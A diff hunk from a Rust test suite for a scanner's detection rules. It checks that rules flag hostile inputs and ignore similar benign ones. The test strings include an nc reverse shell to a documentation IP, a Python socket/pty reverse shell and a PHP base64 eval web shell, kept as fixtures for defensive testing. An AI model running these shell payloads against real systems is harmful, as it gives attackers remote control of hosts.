@@ -86,7 +86,11 @@ fn shipped_rules_fire_on_theirs_and_not_on_their_neighbours() {
     check(text(&["exec 3<>/dev/tcp/localhost/80; echo hi >&3\n"]), &[]);
     check(text(&["nc 192.0.2.1 4444 -e /bin", "/sh\n"]), &["reverse_shell:reverse_shell_script"]);
     check(text(&["nc -z localhost 80 && /bin/sh run.sh\n"]), &[]);
-    let python = ["import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n", "os.dup2(s.fileno(),0)\npty.spawn('/bin", "/sh')\n"];
+    let python = [
+        "import socket,os,pty\ns=socket.socket()\ns.connect(('h',1))\n",
+        "os.dup2(s.fileno(),0)\npty.spawn('/bin",
+        "/sh')\n",
+    ];
     check(text(&python), &["reverse_shell:reverse_shell_in_an_interpreter"]);
     check(text(&["import socket\ns=socket.socket()\ns.connect(('h',1))\n"]), &[]);
     check(text(&["<?php eval(base64_decode($_POST", "['x']));"]), &["web_shell:php_web_shell"]);
